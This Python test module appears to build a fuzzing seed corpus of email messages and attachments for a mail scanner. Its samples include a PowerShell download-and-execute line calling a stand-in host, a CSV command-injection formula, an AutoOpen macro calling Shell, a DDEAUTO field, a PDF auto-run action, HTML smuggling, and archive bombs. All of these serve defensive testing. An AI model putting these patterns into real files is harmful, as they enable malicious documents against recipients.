"""Where the corpus begins: letters and files of the tests and of the demo, all made by us.

    python -m tests.fuzz.seeds FOLDER

writes them into FOLDER/letter and FOLDER/file. Files that virus scanners report are left out.
"""

import base64
import gzip
import struct
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from hashlib import sha1, sha256
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.hashes import SHA256

from lazaretto.demo.letters import SAMPLES
from lazaretto.demo.sample import compose
from tests.fuzz.hostile import FIELDS, HTML, LINES, RECORDS, VALUES
from tests.fuzz.runs import runs_of
from tests.fuzz.targets import MAX_INPUT
from tests.fuzz.world import MARK
from tests.helpers.signing import key_record, private_key, sign
from tests.unit.mail import (
    bombs,
    packed,
    rar_writer,
    test_cms,
    test_embedded,
    test_old_documents,
    test_outlook,
    test_pdf,
    test_qr,
    test_vba,
)
from tests.unit.mail.files import (
    CONTENT_TYPES,
    locked_zip_of,
    ole_of,
    pdf_of,
    relation,
    seven_of,
    tar_of,
    zip_of,
)
from tests.unit.mail.laughs import laughing_pdf
from tests.unit.mail.letters import file_part, html_letter, letter, multipart, part
from tests.unit.mail.test_arc import chain
from tests.unit.mail.test_archives import rar4, rar5

AT = datetime(2026, 11, 20, tzinfo=UTC)
LEFT_OUT = ("malware-eicar",)
WORLD = b"\n".join(LINES[:1] + LINES[5:8] + (b"TXT " + RECORDS[2], b"history 31 100 30 100 100"))

ZONE = b"\n".join(
    (
        b"client 192.0.2.1",
        b"from ann@firm.test",
        b"why.firm.test TXT %{i} is not %{p}, at %{t} %{c} %{r}",
        b"1.2.0.192.in-addr.arpa PTR mx.firm.test\tother.test",
        b"mx.firm.test A 192.0.2.1",
        b"other.test TXT v=spf1 ip4:192.0.2.0/24 -all",
        b"firm.test MX 10 mx.firm.test",
        b"_dmarc.firm.test TXT v=DMARC1; p=quarantine; sp=reject; np=none",
    )
)


def letters() -> Iterator[bytes]:
    """Messages, some of them with a world."""
    for sample in SAMPLES:
        if sample.name not in LEFT_OUT:
            yield compose(sample, AT)
    yield b""
    yield letter("Good morning.")
    yield html_letter("".join(piece.decode("utf-8", "replace") for piece in HTML[:20]))
    for piece in HTML:
        yield html_letter(f"<p>{piece.decode('utf-8', 'replace')}")
    for value in VALUES:
        yield letter("x", content_type=value.decode("latin-1"))
        yield (
            b"From: "
            + value
            + b"\r\nTo: "
            + value
            + b"\r\nDate: "
            + value
            + b"\r\nReceived: "
            + value
            + b"\r\n\r\nx"
        )
    yield b"\r\n".join(FIELDS[:-3]) + b"\r\n\r\nx"
    yield multipart(
        part("one", Content_Type="text/plain"), part("<b>two", Content_Type="text/html"), kind="alternative"
    )
    yield multipart(part(letter("inner"), Content_Type="message/rfc822"))
    for content in files():
        name, _, data = content.partition(b"\n")
        if len(data) < 3_000:
            yield multipart(part("see"), file_part(data, name.decode()))
    yield letter("begin 644 a.exe\n#0V%T\n \nend\n")
    for record in RECORDS:
        yield letter("Hello") + MARK + b"TXT " + record + b"\n" + WORLD
    for policy in (
        b"-all exp=why.%{d}",
        b"ptr -all",
        b"exists:%{p}.%{d} redirect=other.test",
        b"mx/24 a//64 ?all",
    ):
        yield letter("Hello") + MARK + ZONE + b"\nfirm.test TXT v=spf1 " + policy
    for line in LINES:
        yield letter("Hello") + MARK + line + b"\nTXT v=spf1 a mx ptr -all\nTXT " + RECORDS[8]
    signed = sign(letter("signed"), "firm.test", bits=1024)
    key = b"test._domainkey.firm.test TXT " + key_record(1024).encode()
    yield signed + MARK + key
    yield (
        signed
        + MARK
        + key
        + b"\nfrom ann@firm.test\nTXT v=spf1 ip4:198.51.100.7 -all\nTXT v=DMARC1; p=reject"
    )
    yield chain(2) + MARK + key
    for forwarded in _forwarded(b"forwarded"):
        yield forwarded + MARK + key
    yield letter("wire transfer to http://harmless.test/x", From="x@spam.test") + MARK + b"from x@spam.test"
    for sender in (b"friend@firm.test", b"x@partner.test", b"a@tls.test", b"boss@example.net"):
        yield letter("x", From=sender.decode()) + MARK + b"from " + sender + b"\nTXT v=spf1 +all"
    invitation = (
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=A:mailto:a@other.test\r\n"
        "ATTENDEE:mailto:b@c.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    yield letter(invitation, content_type="text/calendar; method=REQUEST")


def _forwarded(body: bytes) -> Iterator[bytes]:
    """Through one and two forwarders that seal. RFC 8617 5.1."""
    sender = ("From", b"ann@firm.test")
    hashed = base64.b64encode(sha256(body + b"\r\n").digest())
    tags = b"i=%d; a=rsa-sha256; d=firm.test; s=test; "
    chain_: list[tuple[str, bytes]] = []
    for i, state in ((1, b"none"), (2, b"pass")):
        results = ("ARC-Authentication-Results", b"i=%d; lists.test; dkim=pass" % i)
        marks = tags % i + b"c=relaxed/relaxed; h=from; bh=" + hashed + b"; b="
        message = ("ARC-Message-Signature", marks + _signature([sender, ("ARC-Message-Signature", marks)]))
        marks = tags % i + b"cv=" + state + b"; b="
        sealed = [*chain_, results, message, ("ARC-Seal", marks)]
        chain_ = [*sealed[:-1], ("ARC-Seal", marks + _signature(sealed))]
        head = b"".join(name.encode() + b": " + value + b"\r\n" for name, value in (*chain_[::-1], sender))
        yield head + b"\r\n" + body


def _signature(fields: list[tuple[str, bytes]]) -> bytes:
    """Over the fields in relaxed form, the last without its line end. RFC 6376 3.4.2."""
    text = b"\r\n".join(name.lower().encode() + b":" + value for name, value in fields)
    return base64.b64encode(private_key(1024).sign(text, PKCS1v15(), SHA256()))


def files() -> Iterator[bytes]:
    """A name, a line end, a file."""
    for name in packed._PACKED:
        if not name.startswith("rar"):  # those are test files of another program
            data = packed.archive(name)
            yield b"a." + name.encode() + b"\n" + (data if len(data) < MAX_INPUT else runs_of(data))
    for name, data in _documents():
        yield name.encode() + b"\n" + data


def _documents() -> Iterator[tuple[str, bytes]]:
    macros = test_vba.packed(b"Sub AutoOpen()\r\nShell(Chr(99))")
    yield "a.zip", zip_of({"a.txt": b"http://zip.test", "b.exe": packed.PROGRAM})
    yield "a.zip", zip_of({"b.zip": zip_of({"c.zip": zip_of({"d.html": b"<a href=http://deep.test>x"})})})
    yield "a.zip", locked_zip_of({"a.js": b"x"})
    yield "bomb.zip", zip_of({"z": bytes(1 << 21)})
    yield "a.docm", zip_of(CONTENT_TYPES | {"word/vbaProject.bin": macros})
    yield (
        "a.docx",
        zip_of(
            CONTENT_TYPES | {"word/_rels/document.xml.rels": relation("attachedTemplate", "http://t.test/x")}
        ),
    )
    yield (
        "a.docx",
        zip_of(
            CONTENT_TYPES
            | {
                "word/document.xml": b"<w:p><w:instrText>DDEAUTO c</w:instrText><w:t>http://w.test</w:t></w:p>",
                "word/embeddings/o.bin": ole_of("\x01Ole10Native", content=b"x"),
            }
        ),
    )
    yield "a.doc", ole_of("WordDocument", "VBA", content=macros)
    yield "a.xls", ole_of("Workbook", "EncryptedPackage")
    yield "a.tar", tar_of({"a.html": b"<a href=http://tar.test>x"})
    yield "a.tgz", tar_of({"a.txt": b"http://tgz.test"}, "w:gz")
    yield "a.tar.bz2", tar_of({"a.txt": b"x"}, "w:bz2")
    yield "a.tar.xz", tar_of({"a.txt": b"x"}, "w:xz")
    yield "a.html.gz", gzip.compress(b"<form action=http://gz.test><input type=password>", mtime=0)
    yield "a.7z", seven_of(["a.exe", "b"])
    yield "b.7z", seven_of(["a.exe"], aes=True)
    yield "a.rar", _rar_four(b"a.exe", packed.PROGRAM)
    yield "b.rar", _rar_five(b"b.exe", packed.PROGRAM)
    yield "c.rar", rar4(0x80, kind=0x73)
    yield "d.rar", rar5(2, b"\x03\x01\x00\x00")
    yield (
        "a.pdf",
        pdf_of(b"/OpenAction /J#61vaScript /URI (http://pdf.test/)", b"/Launch /URI (http://inner.test)"),
    )
    yield "b.pdf", laughing_pdf(3, 3)
    yield "c.pdf", test_pdf.pages_of("a page", "another", uri="http://page.test/")
    yield "d.pdf", test_pdf.code_page()
    yield "e.pdf", test_pdf.carrying("a.exe", packed.PROGRAM)
    yield "qr.png", test_qr.picture()
    for kind in ("JPEG", "GIF", "WEBP", "BMP"):
        yield f"qr.{kind.lower()}", test_qr.picture(kind=kind)
    yield "a.one", test_embedded.note_of(packed.PROGRAM, b"x")
    yield "a.rtf", test_embedded.rtf_of(b"Package", test_embedded.package_of(b"a.exe", packed.PROGRAM))
    yield (
        "a.doc",
        test_embedded.ole_with("\x01Ole10Native", test_embedded.package_of(b"a.exe", packed.PROGRAM)),
    )
    yield (
        "b.doc",
        test_embedded.ole_with(
            "\x01Ole10Native", test_embedded.package_of(b"a.exe", packed.PROGRAM), small=True
        ),
    )
    yield "a.html", b"".join(HTML)
    yield "smuggle.html", b"<script>document.write(atob('" + b"QUFB" * 600 + b"'))</script>"
    yield "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'><a href='http://svg.test'>x</a></svg>"
    yield (
        "a.ics",
        b'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nDESCRIPTION:http://i\r\n cs.test\\nx\r\nORGANIZER;CN="A":mailto:a@b.test\r\nATTACH:http://att.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
    )
    yield "a.url", b"[InternetShortcut]\r\nURL=http://url.test/\r\n"
    yield "a.vcf", b"BEGIN:VCARD\r\nURL:http://card.test\r\nEND:VCARD\r\n"
    yield "a.eml", letter("inside http://eml.test")
    yield "a.txt", b"http://text.test and www.text.test"
    yield "winmail.dat", test_outlook.CONTAINER
    for data in (test_cms.signed(), test_cms.pieced(), test_cms.encrypted()):
        yield "smime.p7m", data
    yield "e.rar", rar_writer.rar_of([("a.txt", b"text" * 3, rar_writer.packed([b"text", (4, 8)]))])
    yield "a.xls", test_old_documents.book(0, 1)
    yield "a.csv", b"a,b\r\n=cmd|'/C calc'!A0\r\n"
    yield "a.docm", bombs.document_of_macros(20)
    yield "keys.7z", bombs.seven_of_keys(3, power=10)
    yield "keys.zip", bombs.locked_for_ever(3)
    yield "old.zip", bombs.locked_the_old_way(3, packed.PASSWORD.encode(), 1_000)
    yield "broken.zip", bombs.overlapping([b"a"] * 3, bombs.deflated(bytes(100_000), broken=True))
    yield "a.iso", bombs.image_of_itself(1)
    yield "a.webp", bombs.picture(1_000)
    yield "rgba.png", test_qr.picture(mode="RGBA")
    yield "sealed.doc", _encrypted_word()
    yield "a.msg", ole_of("__properties_version1.0")
    yield "a.odt", zip_of({"mimetype": b"application/vnd.oasis.opendocument.text"})
    yield "a.jar", zip_of({"META-INF/MANIFEST.MF": b"x"})
    yield "a.dd", b"\xeb".ljust(510, b"\0") + b"\x55\xaa"
    yield (
        "a.ps1",
        b"$a = New-Object Net.WebClient; IEX $a.DownloadString('http://ps.test'); Write-Host $b; if ($c) {}",
    )
    yield "a.py", b"#!/usr/bin/python\nimport os\n"
    yield "a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)


def _encrypted_word() -> bytes:
    """An old document with the flag of a password. MS-DOC 2.5.2."""
    return ole_of("WordDocument", content=struct.pack("<H8xH", 0xA5EC, 0x100))


def _rar_four(name: bytes, content: bytes) -> bytes:
    """One file that is not packed, as RAR 4 writes it."""
    main = struct.pack("<HBHH", 0, 0x73, 0, 13) + bytes(6)
    sizes = struct.pack("<II", len(content), len(content))
    rest = bytes(9) + b"\x14\x30" + struct.pack("<H", len(name)) + bytes(4) + name
    return (
        b"Rar!\x1a\x07\x00"
        + main
        + struct.pack("<HBHH", 0, 0x74, 0x8000, 32 + len(name))
        + sizes
        + rest
        + content
    )


def _rar_five(name: bytes, content: bytes) -> bytes:
    """The same, as RAR 5 writes it."""
    size = bytes((0x80 | len(content) & 127, len(content) >> 7))
    fields = b"\x02\x02" + size + b"\x00" + size + b"\x00\x00\x00" + bytes((len(name),)) + name
    return b"Rar!\x1a\x07\x01\x00" + bytes(4) + bytes((len(fields),)) + fields + content + bytes(20)


def write(folder: Path) -> None:
    """Each under its hash."""
    made: dict[str, Any] = {"letter": letters, "file": files}
    for target, contents in made.items():
        (folder / target).mkdir(parents=True, exist_ok=True)
        for data in contents():
            if len(data) <= MAX_INPUT:
                (folder / target / sha1(data).hexdigest()[:16]).write_bytes(data)


if __name__ == "__main__":
    write(Path(sys.argv[1]))
